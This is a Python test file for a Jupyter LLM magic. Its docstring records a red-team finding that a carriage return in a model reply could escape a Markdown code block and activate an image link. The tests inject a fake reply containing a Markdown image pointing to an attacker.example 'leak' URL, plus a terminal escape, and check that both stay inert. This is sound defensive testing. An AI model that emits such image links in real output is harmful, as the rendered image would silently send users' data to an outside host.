"""A plain output read as Markdown stays code (findings/redteam3.md 5): ``nbconvert --to markdown``
indents a ``text/plain`` output as a code block at ``\\n`` only, and CommonMark (GitHub,
JupyterLab's Markdown Preview) also ends a line at ``\\r``: a ``--format text`` reply's carriage
return let the text after it out of the code block, a Markdown picture there live. Every plain
form shows a control character as a picture of itself (controls.py), as a terminal does."""

from __future__ import annotations

import re

import nbformat
import pytest
from conftest import cell, scripted
from markdown_it import MarkdownIt
from nbconvert import MarkdownExporter

ATTACKER = "http://attacker.example/leak?d=the-secret-plan"


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_a_plain_reply_with_a_carriage_return_stays_code_after_nbconvert(shell, tmp_path, fmt):
    reply = f"Done.\r\r![chart]({ATTACKER})\x1b[2J"
    with scripted(shell, tmp_path, "Summarise", reply):
        run = cell(shell, f"%%ygpt --format {fmt}\nSummarise")
    assert "Done.␍␍![chart]" in run.displays[-1]["text/plain"] and "␛[2J" in run.displays[-1]["text/plain"]
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(f"%%ygpt --format {fmt}\nSummarise", outputs=[
        nbformat.v4.new_output("display_data", data=data) for data in run.displays])]
    shown = MarkdownIt("commonmark", {"html": True}).render(MarkdownExporter().from_notebook_node(nb)[0])
    assert not re.findall(r"<img\b[^>]*>", shown), shown
    assert f"![chart]({ATTACKER})" in shown.replace("&amp;", "&"), "still readable, as code"


class CutShortWithControls:
    """One PARTIAL chunk holding a carriage return, then the call ends without its FINAL one: the
    cell shows the partial reply with its closing line (render/stream.py ``_marked``)."""

    def respond(self, prompt):
        from ygpt_magic.emulator.responders import Generation
        from ygpt_magic.emulator.stream import PARTIAL, response

        return Generation(recorded=(response(prompt, "Done.\r\r![chart](http://a.example/x)", PARTIAL, 1, 0),),
                          origin="cut short")


def test_a_partial_plain_reply_shows_its_control_characters_as_pictures(shell):
    from ygpt_magic.emulator import start_local_server

    with start_local_server() as server:
        server._state.responders.responders.insert(0, CutShortWithControls())
        shell.run_line_magic("ygpt", f"connect {server.address} --insecure")
        run = cell(shell, "%%ygpt --format text\nSummarise")
    assert "broke off" in run.message, run.message
    assert "Done.␍␍![chart]" in run.final and "\r" not in run.final, repr(run.final)
